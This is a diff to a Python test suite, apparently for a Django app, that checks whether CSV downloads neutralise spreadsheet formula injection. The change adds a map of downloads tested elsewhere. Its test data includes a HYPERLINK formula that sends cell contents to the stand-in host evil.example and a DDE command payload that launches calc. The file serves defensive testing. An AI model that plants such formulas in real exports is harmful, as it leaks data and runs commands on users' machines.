@@ -26,6 +26,13 @@ DOWNLOADS = (
     "dashboards:cluster_csv",
 )
 
+#: Downloads whose neutralisation is tested beside their app (same helper, their own data).
+COVERED_ELSEWHERE = {
+    "competency:study_csv": (
+        "competency/tests/test_studies.py::test_study_csv_has_a_bom_and_neutralises_formulas"
+    ),
+}
+
 EVIL = {
     "enterprise": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
     "cluster": "+cmd|' /C calc'!A0",
@@ -122,7 +129,7 @@ def test_every_csv_address_is_covered():
             elif str(pattern.pattern).endswith(".csv") or "csv" in (pattern.name or ""):
                 yield f"{namespace}{pattern.name}"
 
-    assert set(walk(get_resolver().url_patterns)) == set(DOWNLOADS)
+    assert set(walk(get_resolver().url_patterns)) == set(DOWNLOADS) | set(COVERED_ELSEWHERE)
 
 
 @pytest.mark.parametrize(
